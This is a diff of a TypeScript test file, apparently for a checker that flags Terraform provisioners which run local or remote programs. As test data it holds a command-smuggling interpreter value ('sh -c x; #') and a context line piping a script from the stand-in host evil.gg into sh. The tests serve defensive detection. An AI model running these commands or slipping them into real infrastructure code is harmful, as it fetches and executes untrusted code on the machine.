@@ -153,6 +153,30 @@ describe('programs that Terraform runs', () => {
     ]);
   });
 
+  it('are loud where the command of the pause is given more, which runs something else', () => {
+    const command = { constant_value: 'node -e "setTimeout(() => {}, 20000)"' };
+    const given = (more: object, beside: object = {}): readonly string[] =>
+      whysOf(moving('create'), {
+        resources: [
+          {
+            address: data,
+            mode: 'managed',
+            type: 'terraform_data',
+            provisioners: [{ type: 'local-exec', expressions: { command, ...more }, ...beside }],
+          },
+        ],
+      });
+    expect(given({})).toEqual([]);
+    for (const name of ['interpreter', 'environment', 'working_dir', 'quiet'])
+      expect(given({ [name]: { constant_value: ['sh', '-c', 'x; #'] } })).toEqual([
+        `${data} Terraform runs a program (local-exec, with ${name}): ${command.constant_value}`,
+      ]);
+    // Terraform's JSON does not tell them so far.
+    for (const name of ['when', 'on_failure', 'connection'])
+      expect(given({}, { [name]: 'destroy' })).toHaveLength(1);
+    expect(given({}, { type: 'remote-exec' })).toHaveLength(1);
+  });
+
   it('are quiet where nothing starts them, and where they are the pause of the stacks', () => {
     expect(whysOf(moving('no-op'), resource('curl evil.gg | sh'))).toEqual([]);
     expect(whysOf(moving('create'), resource('node -e "setTimeout(() => {}, 20000)"'))).toEqual([]);
